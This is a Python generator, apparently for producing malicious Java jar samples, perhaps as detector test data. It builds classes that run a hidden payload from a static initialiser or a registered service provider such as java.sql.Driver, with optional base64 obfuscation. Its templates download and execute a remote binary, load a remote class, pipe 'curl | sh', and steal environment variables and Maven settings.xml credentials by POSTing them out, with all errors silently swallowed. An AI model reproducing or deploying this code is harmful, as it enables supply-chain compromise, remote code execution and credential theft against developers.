"""Jar shapes of the TUNE family: a new class that an existing class's static initialiser, or a service file, starts.

A shape gives (Java source, class name, method); the generator compiles all sources of a run in one go.
"""
import base64

from context import render

plain = lambda text: '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def b64(text):
    return f'new String(java.util.Base64.getDecoder().decode("{base64.b64encode(text.encode()).decode()}"))'


DOWNLOAD = """
        try {{
            java.nio.file.Path <A> = java.nio.file.Files.createTempFile(§{file}§, §.bin§);
            java.nio.file.Files.copy(new java.net.URL(§{url}§).openStream(), <A>, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
            <A>.toFile().setExecutable(true);
            new ProcessBuilder(<A>.toString()).start();
        }} catch (Exception <B>) {{ }}
"""
LOADER = """
        try {{
            java.net.URLClassLoader <A> = new java.net.URLClassLoader(new java.net.URL[] {{ new java.net.URL(§{url}§) }});
            <A>.loadClass(§Stage§).getMethod(§run§).invoke(null);
        }} catch (Exception <B>) {{ }}
"""
SHELL = """
        try {{
            Runtime.getRuntime().exec(new String[] {{ §/bin/sh§, §-c§, §curl -s {url} | sh§ }});
        }} catch (java.io.IOException <B>) {{ }}
"""
STEAL = """
        try {{
            java.nio.file.Path <A> = java.nio.file.Paths.get(System.getProperty(§user.home§), §.m2/settings.xml§);
            String <B> = System.getenv().toString() + new String(java.nio.file.Files.readAllBytes(<A>));
            java.net.HttpURLConnection <C> = (java.net.HttpURLConnection) new java.net.URL(§{url}§).openConnection();
            <C>.setRequestMethod(§POST§);
            <C>.setDoOutput(true);
            <C>.getOutputStream().write(<B>.getBytes());
            <C>.getResponseCode();
        }} catch (Exception <D>) {{ }}
"""
BODIES = [DOWNLOAD, LOADER, SHELL, STEAL]


def source(ctx, package):
    name = ctx.ident().title().replace("_", "") + "Support"
    writer = ctx.rng.choice([plain, plain, b64])
    body = render(ctx.fill(ctx.rng.choice(BODIES).format(url=ctx.url(), file=ctx.token(6))), writer)
    head = f"package {package};\n\n" if package else ""
    return f"{head}public final class {name} {{\n    public {name}() {{ start(); }}\n\n    public static void start() {{{body}    }}\n}}\n", name, "start"


def static_initialiser(jar, ctx):
    return jar.from_static(ctx, source)


def service(jar, ctx):
    return jar.from_service(ctx, source, ctx.rng.choice(["java.sql.Driver", "java.nio.file.spi.FileSystemProvider", "javax.annotation.processing.Processor"]))


SHAPES = [static_initialiser, static_initialiser, service]
